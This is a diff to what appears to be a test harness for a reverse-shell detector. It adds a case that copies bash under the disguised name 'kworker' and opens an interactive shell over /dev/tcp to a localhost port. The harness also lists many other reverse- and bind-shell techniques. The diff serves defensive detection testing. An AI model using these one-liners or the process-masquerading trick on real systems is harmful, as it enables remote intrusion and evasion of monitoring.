@@ -33,7 +33,7 @@
 # (default /usr/bin/python3 when present: pyenv shims add execs of their own); SW_C_DUP3 the C shell.
 
 SW_TECHNIQUES=(bash_tcp sh_fd196 python_dup2 python_pty perl_socket php_fsockopen ruby_tcpsocket
-	socat_exec ncat_e nc_traditional_e mkfifo_nc openssl_relay python_bind c_dup3_fcntl)
+	socat_exec ncat_e nc_traditional_e mkfifo_nc openssl_relay python_bind c_dup3_fcntl bash_copy)
 SW_TECHNIQUES_WIRE=(gawk_inet_reverse gawk_inet_bind lua_socket_reverse lua_socket_bind tclsh_exec
 	python_popen_loop perl_backticks_loop node_bind node_reverse
 	tclsh_server perl_open_pipe_bind node_exec_loop python_udp_popen ruby_popen_fork
@@ -61,7 +61,7 @@ SW_TECH_SEND_TCL=$'sh -c {echo sw-pid=$PPID}\nid'
 sw_tech_missing() {
 	local need p
 	case $1 in
-	bash_tcp | sh_fd196) need="bash sh" ;;
+	bash_tcp | sh_fd196 | bash_copy) need="bash sh" ;;
 	python_dup2 | python_pty | python_bind) need="$SW_PY" ;;
 	perl_socket) need=perl ;;
 	php_fsockopen) need=php ;;
@@ -165,6 +165,13 @@ _sw_reverse() {
 
 sw_tech_bash_tcp() {
 	_sw_reverse bash -c 'bash -i >& /dev/tcp/127.0.0.1/@PORT@ 0>&1'
+}
+
+# A copy of bash under another name (kworker): no file name, no inode says bash; its ELF
+# build-id does (the alert's interpreter_by is build-id).
+sw_tech_bash_copy() {
+	cp /bin/bash "$SW_T_DIR/kworker" || return 1
+	_sw_reverse "$SW_T_DIR/kworker" -c "$SW_T_DIR/kworker -i >& /dev/tcp/127.0.0.1/@PORT@ 0>&1"
 }
 
 sw_tech_sh_fd196() {
